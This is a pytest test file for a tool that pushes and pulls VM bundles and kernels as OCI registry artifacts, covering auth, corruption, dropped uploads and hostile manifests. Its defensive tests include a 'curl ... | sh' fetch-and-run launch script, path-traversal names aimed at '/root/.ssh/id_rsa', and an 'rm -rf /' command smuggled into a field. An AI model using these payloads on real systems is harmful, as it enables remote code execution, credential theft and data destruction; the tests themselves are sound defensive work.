"""Bundles and kernels as OCI artifacts, against real Debian docker-registry instances.

skopeo is the independent reader of what we push; the registry's own storage
directory is where a test corrupts a blob behind the registry's back.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.server
import json
import os
import re
import shutil
import socket
import subprocess
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from tests.conftest import free_port, need, skopeo_copy, start_registry
from tests.test_registry_auth import (
    PASSWORD,
    USER,
    docker_config,
    secure_registry,  # noqa: F401 (a fixture)
)
from tests.test_registry_auth import push as skopeo_push_auth
from vmimg.artifact.bundle import (
    BUNDLE_ARTIFACT,
    BUNDLE_CONFIG,
    find_bundle,
    pull_bundle,
    pull_bundle_to_cache,
    push_bundle,
)
from vmimg.artifact.kernel import KERNEL_ARTIFACT, pull_kernel
from vmimg.artifact.transfer import TITLE
from vmimg.bundle.build import BuildOptions
from vmimg.bundle.format import read_vm_json
from vmimg.cli import artifact as cli_artifact
from vmimg.cli.kernel import kernel as kernel_group
from vmimg.errors import KernelError, SourceError
from vmimg.guest.agent import ConfigOverrides
from vmimg.guest.kernel import KernelInfo, find_or_build_kernel, load_kernel
from vmimg.image.cache import Cache
from vmimg.image.oci import OCI_INDEX, OCI_MANIFEST, Platform
from vmimg.image.registry import RegistryClient, fallback_tag
from vmimg.image.sources import SourceOptions
from vmimg.pipeline import RemoteBuild, build_bundle_remote

OPTS = SourceOptions(Platform())


# -- fixtures --------------------------------------------------------------------------


class Registry:
    """A plain loopback registry whose storage directory the test can reach into."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.port = free_port()
        self.proc = start_registry(str(root), self.port)
        self.host = f"127.0.0.1:{self.port}"

    def blob_file(self, digest: str) -> Path:
        hexd = digest.split(":", 1)[1]
        return self.root / "data/docker/registry/v2/blobs/sha256" / hexd[:2] / hexd / "data"

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)


@pytest.fixture(scope="module")
def reg(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    r = Registry(tmp_path_factory.mktemp("artifact-registry"))
    yield r
    r.stop()


@pytest.fixture(scope="module")
def guest_kernel() -> KernelInfo:
    """vmimg's tuned kernel from the user's cache (built there the first time)."""
    return find_or_build_kernel("x86_64")


@pytest.fixture(scope="module")
def image_ref(reg: Registry, sample_ref: str) -> str:
    """The sample image in the registry: the source every bundle here is built from."""
    ref = f"docker://{reg.host}/sample:v1"
    skopeo_copy(sample_ref, ref)
    return ref


def build_options(kernel: KernelInfo, **kw: object) -> BuildOptions:
    assert kernel.vmlinux is not None
    return BuildOptions(kernel_path=str(kernel.vmlinux), **kw)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def pushed(
    image_ref: str,
    reg: Registry,
    guest_kernel: KernelInfo,
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[Path, RemoteBuild]:
    """A bundle built from the registry image and pushed next to it (`build --push`)."""
    root = tmp_path_factory.mktemp("pushed")
    cache = Cache.open(str(root / "cache"))
    out = root / "bundle"
    built = build_bundle_remote(
        image_ref,
        str(out),
        build_options(guest_kernel),
        cache,
        OPTS,
        push=f"{reg.host}/sample:bundle",
    )
    assert built.pushed is not None and built.pulled_from is None
    return out, built


def cli(*args: str) -> Result:
    """One of our click commands, run in-process: cli_artifact.push, pull, ..."""
    group = {"push": cli_artifact.push, "pull": cli_artifact.pull}
    name, *rest = args
    if name == "kernel":
        group = {"push": cli_artifact.kernel_push, "pull": cli_artifact.kernel_pull}
        name, *rest = rest
    return CliRunner().invoke(group[name], rest)


def skopeo_raw(ref: str, *extra: str) -> dict[str, object]:
    out = subprocess.run(
        [need("skopeo"), "inspect", "--raw", *extra, ref], check=True, capture_output=True
    ).stdout
    doc = json.loads(out)
    assert isinstance(doc, dict)
    return doc


def tree_of(root: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under root: relative path -> (bytes, permission bits but the write bits:
    a built bundle's read-only files are shared with the cache by hardlink, read-only)."""
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_file():
            out[str(p.relative_to(root))] = (p.read_bytes(), p.stat().st_mode & 0o555)
    return out


# -- round trips -------------------------------------------------------------------------


def test_push_pull_round_trip_and_what_skopeo_reads(
    pushed: tuple[Path, RemoteBuild], reg: Registry, tmp_path: Path
) -> None:
    bundle, built = pushed
    assert built.pushed is not None
    vm = read_vm_json(str(bundle)).doc

    raw = skopeo_raw(f"docker://{reg.host}/sample:bundle", "--tls-verify=false")
    assert raw["mediaType"] == OCI_MANIFEST and raw["artifactType"] == BUNDLE_ARTIFACT
    config = raw["config"]
    assert isinstance(config, dict) and config["mediaType"] == BUNDLE_CONFIG
    subject = raw["subject"]
    assert isinstance(subject, dict) and subject["digest"] == vm["source"]["digest"]
    annotations = raw["annotations"]
    assert isinstance(annotations, dict) and annotations["vmimg.build-key"] == built.key
    layers = raw["layers"]
    assert isinstance(layers, list)
    titles = {layer["annotations"][TITLE]: layer for layer in layers}
    # Big files travel zstd-compressed and say so; small ones as they are.
    assert titles["kernel.zst"]["mediaType"].endswith("+zstd")
    assert titles["kernel.zst"]["size"] < vm["files"]["kernel"]["size"] // 2
    assert titles["kernel.zst"]["annotations"]["vmimg.uncompressed.digest"] == (
        "sha256:" + vm["files"]["kernel"]["sha256"]
    )
    assert {"vm.json", "manifest", "launch/qemu.sh", "launch/firecracker.json"} <= set(titles)

    out = tmp_path / "pulled"
    r = cli("pull", f"{reg.host}/sample:bundle", "-o", str(out), "--json")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["reference"] == built.pushed.pinned
    assert tree_of(out) == tree_of(bundle)

    # A second push finds every blob in the registry and sends none.
    r = cli("push", str(bundle), f"{reg.host}/sample:again", "--json")
    assert r.exit_code == 0, r.output
    again = json.loads(r.stdout)
    assert again["uploaded"] == 0 and again["skipped"] == len(layers)


def test_discovery_by_subject_through_the_fallback_tag(
    pushed: tuple[Path, RemoteBuild], reg: Registry, image_ref: str, tmp_path: Path
) -> None:
    bundle, built = pushed
    assert built.pushed is not None and built.pushed.referrers == "fallback-tag"
    source_digest = read_vm_json(str(bundle)).doc["source"]["digest"]
    # Debian's docker-registry 2.8 has no referrers API ...
    client = RegistryClient(reg.host)
    resp = client.request("GET", f"/v2/sample/referrers/{source_digest}", ok=(200, 404))
    assert resp.status_code == 404
    # ... so the artifact is listed in the index under the fallback tag.
    index = skopeo_raw(
        f"docker://{reg.host}/sample:{fallback_tag(source_digest)}", "--tls-verify=false"
    )
    assert index["mediaType"] == OCI_INDEX
    entries = index["manifests"]
    assert isinstance(entries, list)
    mine = [e for e in entries if e["digest"] == built.pushed.digest]
    assert len(mine) == 1 and mine[0]["artifactType"] == BUNDLE_ARTIFACT

    assert find_bundle(image_ref, OPTS, build_key=built.key) == built.pushed.pinned
    assert find_bundle(image_ref, OPTS, build_key="0" * 64) is None
    assert find_bundle(image_ref, OPTS, fs="initramfs") is None
    out = tmp_path / "from-image"
    r = cli("pull", image_ref, "--from-image", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert tree_of(out) == tree_of(bundle)
    # Without --from-image an image is refused with a hint.
    r = cli("pull", image_ref, "-o", str(tmp_path / "no"))
    assert r.exit_code == SourceError.exit_code and "--from-image" in r.stderr


def test_remote_cache_pulls_instead_of_converting(
    pushed: tuple[Path, RemoteBuild], image_ref: str, guest_kernel: KernelInfo, tmp_path: Path
) -> None:
    bundle, built = pushed
    assert built.pushed is not None
    fresh = Cache.open(str(tmp_path / "fresh-cache"))
    out = tmp_path / "bundle"
    again = build_bundle_remote(
        image_ref, str(out), build_options(guest_kernel), fresh, OPTS, remote_cache=True
    )
    assert again.key == built.key
    assert again.pulled_from == built.pushed.pinned
    assert again.build.cached is True
    # No layer was fetched or decompressed: the bundle came whole from the registry.
    assert list(Path(fresh.root, "layers").rglob("*.tar")) == []
    assert tree_of(out) == tree_of(bundle)

    # Other settings make another key: no hit, a real conversion.
    other = build_bundle_remote(
        image_ref,
        str(tmp_path / "other"),
        build_options(guest_kernel, overrides=ConfigOverrides(hostname="elsewhere")),
        fresh,
        OPTS,
        remote_cache=True,
    )
    assert other.key != built.key and other.pulled_from is None and not other.build.cached
    assert list(Path(fresh.root, "layers").rglob("*.tar")) != []


def test_pull_to_cache_for_verify(pushed: tuple[Path, RemoteBuild], tmp_path: Path) -> None:
    bundle, built = pushed
    assert built.pushed is not None
    cache = Cache.open(str(tmp_path / "cache"))
    first = pull_bundle_to_cache(built.pushed.pinned, cache, OPTS)
    assert tree_of(Path(first)) == tree_of(bundle)
    assert pull_bundle_to_cache(built.pushed.reference, cache, OPTS) == first


def test_corrupted_blob_fails_cleanly(
    reg: Registry, image_ref: str, guest_kernel: KernelInfo, tmp_path: Path
) -> None:
    # An ext4 bundle: its root fs blob is used by no other test.
    cache = Cache.open(str(tmp_path / "cache"))
    bundle = tmp_path / "ext4"
    build_bundle_remote(image_ref, str(bundle), build_options(guest_kernel, fs="ext4"), cache, OPTS)
    result = push_bundle(str(bundle), f"{reg.host}/corrupt:ext4", cache, OPTS)
    raw = skopeo_raw(f"docker://{reg.host}/corrupt:ext4", "--tls-verify=false")
    layers = raw["layers"]
    assert isinstance(layers, list)
    victim = next(x for x in layers if x["annotations"][TITLE].startswith("rootfs.ext4"))
    blob = reg.blob_file(victim["digest"])
    data = bytearray(blob.read_bytes())
    middle = len(data) // 2
    data[middle : middle + 64] = bytes(64)
    blob.write_bytes(bytes(data))

    out = tmp_path / "out"
    r = cli("pull", result.pinned, "-o", str(out), "-q")
    assert r.exit_code == SourceError.exit_code
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("vmimg: error: "), r.stderr
    assert victim["digest"] in lines[0]
    assert not out.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []


def test_hostile_layer_title_is_refused(
    pushed: tuple[Path, RemoteBuild], reg: Registry, tmp_path: Path
) -> None:
    _bundle, built = pushed
    assert built.pushed is not None
    client = RegistryClient(reg.host)
    data, _ctype = client.get_manifest("sample", built.pushed.digest, OCI_MANIFEST)
    doc = json.loads(data)
    doc["layers"][-1]["annotations"][TITLE] = "../escaped"
    client.put_manifest("sample", "hostile", json.dumps(doc).encode(), OCI_MANIFEST)
    with pytest.raises(SourceError, match=r"unacceptable file name '\.\./escaped'"):
        pull_bundle(f"{reg.host}/sample:hostile", str(tmp_path / "out"), OPTS)
    assert not (tmp_path / "escaped").exists() and list(tmp_path.iterdir()) == []


def test_kernel_push_pull_round_trip(
    reg: Registry, guest_kernel: KernelInfo, tmp_path: Path
) -> None:
    here = Cache.open(str(tmp_path / "here"))
    shutil.copytree(guest_kernel.directory, Path(here.root, "kernels", guest_kernel.key))
    r = cli("kernel", "push", guest_kernel.key[:8], f"{reg.host}/kernels:6.1", "--json",
            "--cache", here.root)  # fmt: skip
    assert r.exit_code == 0, r.output
    raw = skopeo_raw(f"docker://{reg.host}/kernels:6.1", "--tls-verify=false")
    assert raw["artifactType"] == KERNEL_ARTIFACT
    layers = raw["layers"]
    assert isinstance(layers, list)
    titles = {x["annotations"][TITLE] for x in layers}
    assert {"kernel.json", "vmlinux.zst", "config", "bzImage"} <= titles  # config: < 64 KiB

    there = Cache.open(str(tmp_path / "there"))
    info = pull_kernel(f"{reg.host}/kernels:6.1", there, OPTS)
    assert info.key == guest_kernel.key
    # Pulled kernels live apart from builds, keyed by the artifact: never under a build key.
    assert info.directory.parent == Path(there.root, "kernels", "pulled")
    assert not Path(there.root, "kernels", guest_kernel.key).exists()
    for name in ("kernel.json", "vmlinux", "bzImage", "config"):
        assert (info.directory / name).read_bytes() == (guest_kernel.directory / name).read_bytes()
    assert load_kernel(info.directory).version == guest_kernel.version
    # The CLI finds it cached the second time.
    r = cli("kernel", "pull", f"{reg.host}/kernels:6.1", "--cache", there.root)
    assert r.exit_code == 0 and guest_kernel.key in r.stdout
    # ... and says how to use it: the file `vmimg build --kernel` takes.
    assert f"use it: vmimg build SOURCE -o DIR --kernel {info.directory / 'vmlinux'}" in r.stdout


# -- TLS, credentials ------------------------------------------------------------------------


def test_push_pull_over_tls_with_basic_auth(
    pushed: tuple[Path, RemoteBuild],
    sample_ref: str,
    secure_registry: tuple[str, str],  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bundle, _built = pushed
    host, cert = secure_registry
    Path(cert).with_name("ca.crt").write_bytes(Path(cert).read_bytes())
    skopeo_push_auth(sample_ref, host, cert)  # the image, so the bundle gets its subject
    monkeypatch.setenv("DOCKER_CONFIG", docker_config(tmp_path, host, USER, PASSWORD))
    ref = f"{host}/auth/sample:bundle"
    r = cli("push", str(bundle), ref, "--ca-cert", cert, "--json")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["subject"] == read_vm_json(str(bundle)).doc["source"]["digest"]
    out = tmp_path / "out"
    r = cli("pull", f"docker://{host}/auth/sample:v1", "--from-image", "-o", str(out),
            "--ca-cert", cert)  # fmt: skip
    assert r.exit_code == 0, r.output
    assert tree_of(out) == tree_of(bundle)


def test_wrong_credentials_are_a_clear_error(
    pushed: tuple[Path, RemoteBuild],
    secure_registry: tuple[str, str],  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bundle, _built = pushed
    host, cert = secure_registry
    wrong = "not-the-pass-7731"
    monkeypatch.setenv("DOCKER_CONFIG", docker_config(tmp_path, host, USER, wrong))
    r = cli("push", str(bundle), f"{host}/auth/denied:v1", "--ca-cert", cert, "-q")
    assert r.exit_code == SourceError.exit_code
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and "401" in lines[0] and host in lines[0], r.stderr
    assert wrong not in r.output and PASSWORD not in r.output


# -- uploads that break ------------------------------------------------------------------------


class DroppingProxy:
    """A TCP proxy to a registry that cuts the first connection which has carried more
    than `after` bytes upstream: a real dropped connection in the middle of an upload."""

    def __init__(self, upstream: int, after: int) -> None:
        self.upstream = upstream
        self.after = after
        self.drops = 0
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client, _addr = self.sock.accept()
            except OSError:
                return
            server = socket.create_connection(("127.0.0.1", self.upstream))
            threading.Thread(target=self._pump, args=(client, server, True), daemon=True).start()
            threading.Thread(target=self._pump, args=(server, client, False), daemon=True).start()

    def _pump(self, src: socket.socket, dst: socket.socket, upstream: bool) -> None:
        sent = 0
        try:
            while data := src.recv(1 << 16):
                sent += len(data)
                if upstream and self.drops == 0 and sent > self.after:
                    self.drops += 1
                    break
                dst.sendall(data)
        except OSError:
            pass
        for s in (src, dst):
            with contextlib.suppress(OSError):
                s.shutdown(socket.SHUT_RDWR)
            s.close()

    def close(self) -> None:
        self.sock.close()


def test_upload_survives_a_dropped_connection_in_chunked_mode(
    pushed: tuple[Path, RemoteBuild], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle, _built = pushed
    fresh = Registry(tmp_path / "registry")  # holds none of the blobs yet
    proxy = DroppingProxy(fresh.port, after=1_500_000)
    try:
        monkeypatch.setenv("VMIMG_UPLOAD_CHUNK", str(512 << 10))  # PATCH in 512 KiB chunks
        cache = Cache.open(str(tmp_path / "cache"))
        result = push_bundle(str(bundle), f"127.0.0.1:{proxy.port}/flaky:v1", cache, OPTS)
        assert proxy.drops == 1
        assert result.uploaded >= 3 and result.skipped == 0
        out = tmp_path / "out"
        pull_bundle(f"{fresh.host}/flaky:v1", str(out), OPTS)
        assert tree_of(out) == tree_of(bundle)
    finally:
        proxy.close()
        fresh.stop()


def test_push_refuses_a_bundle_that_no_longer_matches_vm_json(
    pushed: tuple[Path, RemoteBuild], reg: Registry, tmp_path: Path
) -> None:
    bundle, _built = pushed
    copy = tmp_path / "b"
    shutil.copytree(bundle, copy)
    with open(copy / "manifest", "ab") as f:
        f.write(b"tampered\n")
    r = cli("push", str(copy), f"{reg.host}/sample:tampered")
    assert r.exit_code != 0 and "cannot push" in r.stderr and "manifest" in r.stderr
    assert "does not match" in r.stderr or "vm.json says" in r.stderr
    assert os.path.exists(copy / "vm.json")


# -- token auth ------------------------------------------------------------------------------

TOKEN_AUTH_CONFIG = """\
auth:
  token:
    realm: http://127.0.0.1:{port}/token
    service: vmimg-test
    issuer: vmimg-test-issuer
    rootcertbundle: {cert}
"""


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


class TokenServer:
    """A Docker token-auth server: Basic credentials in, an RS256 JWT granting the asked
    scope out (signed with openssl; the registry trusts the certificate via x5c).
    Records every scope it granted."""

    def __init__(self, root: Path) -> None:
        self.key, self.cert = root / "token.key", root / "token.pem"
        subprocess.run(
            [need("openssl"), "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
             "-subj", "/CN=vmimg-token", "-keyout", str(self.key), "-out", str(self.cert)],
            check=True, capture_output=True,
        )  # fmt: skip
        der = subprocess.run(
            [need("openssl"), "x509", "-in", str(self.cert), "-outform", "DER"],
            check=True,
            capture_output=True,
        ).stdout
        self.x5c = base64.b64encode(der).decode()
        self.scopes: list[str] = []
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
                basic = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
                if self.headers.get("Authorization") != f"Basic {basic}":
                    self.send_response(401)
                    self.end_headers()
                    return
                scope = query.get("scope", [""])[0]
                server.scopes.append(scope)
                body = json.dumps({"token": server.token(scope)}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def token(self, scope: str) -> str:
        access = []
        if scope:
            kind, name, actions = scope.split(":")
            access.append({"type": kind, "name": name, "actions": actions.split(",")})
        now = int(time.time())
        header = {"typ": "JWT", "alg": "RS256", "x5c": [self.x5c]}
        claims = {
            "iss": "vmimg-test-issuer", "sub": USER, "aud": "vmimg-test", "exp": now + 300,
            "nbf": now - 10, "iat": now, "jti": os.urandom(8).hex(), "access": access,
        }  # fmt: skip
        signing_input = (
            f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}"
        )
        signature = subprocess.run(
            [need("openssl"), "dgst", "-sha256", "-sign", str(self.key)],
            input=signing_input.encode(),
            check=True,
            capture_output=True,
        ).stdout
        return f"{signing_input}.{b64url(signature)}"

    def close(self) -> None:
        self.httpd.shutdown()


def test_push_and_pull_with_token_auth(
    pushed: tuple[Path, RemoteBuild],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The bearer flow gets a pull token for the first HEAD and a push token when the
    upload's POST is challenged for `pull,push`."""
    bundle, _built = pushed
    tokens = TokenServer(tmp_path)
    port = free_port()
    proc = start_registry(
        str(tmp_path / "registry"),
        port,
        TOKEN_AUTH_CONFIG.format(port=tokens.port, cert=tokens.cert),
    )
    try:
        host = f"127.0.0.1:{port}"
        monkeypatch.setenv("DOCKER_CONFIG", docker_config(tmp_path, host, USER, PASSWORD))
        r = cli("push", str(bundle), f"{host}/tok/sample:v1", "--json")
        assert r.exit_code == 0, r.output
        assert {"pull", "push"} in [
            set(scope.rsplit(":", 1)[1].split(",")) for scope in tokens.scopes
        ]
        out = tmp_path / "out"
        r = cli("pull", f"{host}/tok/sample:v1", "-o", str(out))
        assert r.exit_code == 0, r.output
        assert tree_of(out) == tree_of(bundle)
    finally:
        proc.terminate()
        proc.wait(10)
        tokens.close()


# -- hostile artifacts ---------------------------------------------------------------------


def _put_blob(client: RegistryClient, repo: str, data: bytes, tmp_path: Path) -> dict[str, Any]:
    path = tmp_path / f"blob-{hashlib.sha256(data).hexdigest()[:12]}"
    path.write_bytes(data)
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    client.upload_blob(repo, str(path), digest, len(data))
    return {"digest": digest, "size": len(data)}


def test_pulled_launch_scripts_are_never_the_registry_s(
    pushed: tuple[Path, RemoteBuild], reg: Registry, tmp_path: Path
) -> None:
    """A bundle artifact whose launch/qemu.sh is hostile: the pulled bundle gets launchers
    written from vm.json, not that script."""
    bundle, _built = pushed
    evil = tmp_path / "evil"
    shutil.copytree(bundle, evil)
    (evil / "launch" / "qemu.sh").write_text("#!/bin/sh\ncurl http://127.0.0.2/x | sh\n")
    r = cli("push", str(evil), f"{reg.host}/sample:evil-launch")
    assert r.exit_code == 0, r.output
    out = tmp_path / "out"
    r = cli("pull", f"{reg.host}/sample:evil-launch", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert "127.0.0.2" not in (out / "launch" / "qemu.sh").read_text()
    assert (out / "launch" / "qemu.sh").read_text() == (bundle / "launch" / "qemu.sh").read_text()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda m: m.update(boot_image="../../../../root/.ssh/id_rsa"), "boot_image is not"),
        (lambda m: m["files"].update({"../id_rsa": m["files"]["config"]}), "unknown file"),
        (lambda m: m.update(key="../../x"), "no valid key"),
        (lambda m: m.update(arch="x86_64; rm -rf /"), "unknown arch"),
    ],
)
def test_hostile_kernel_artifacts_are_refused(
    reg: Registry,
    guest_kernel: KernelInfo,
    tmp_path: Path,
    change: Callable[[dict[str, Any]], None],
    message: str,
) -> None:
    here = Cache.open(str(tmp_path / "here"))
    shutil.copytree(guest_kernel.directory, Path(here.root, "kernels", guest_kernel.key))
    r = cli("kernel", "push", guest_kernel.key[:8], f"{reg.host}/kernels:good", "--cache",
            here.root)  # fmt: skip
    assert r.exit_code == 0, r.output
    client = RegistryClient(reg.host)
    data, _ = client.get_manifest("kernels", "good", OCI_MANIFEST)
    doc = json.loads(data)
    meta = json.loads((guest_kernel.directory / "kernel.json").read_text())
    change(meta)
    blob = _put_blob(client, "kernels", json.dumps(meta).encode(), tmp_path)
    doc["config"].update(blob)
    client.put_manifest("kernels", "hostile", json.dumps(doc).encode(), OCI_MANIFEST)
    there = Cache.open(str(tmp_path / "there"))
    with pytest.raises(KernelError, match=re.escape(message)):
        pull_kernel(f"{reg.host}/kernels:hostile", there, OPTS)
    assert not any(Path(there.root, "kernels").glob("**/id_rsa"))
    # `kernel list` survives whatever the cache holds.
    junk = Path(there.root, "kernels", "0123456789abcdef")
    junk.mkdir(parents=True)
    (junk / "kernel.json").write_text(json.dumps(meta))
    Path(there.root, "kernels", "pulled", "sha256-x").mkdir(parents=True)
    Path(there.root, "kernels", "pulled", "sha256-x", "kernel.json").write_text("[1]")
    r = CliRunner().invoke(kernel_group, ["list", "--cache", there.root])
    assert r.exit_code == 0, r.output
    assert "no kernels in the cache" in r.stdout
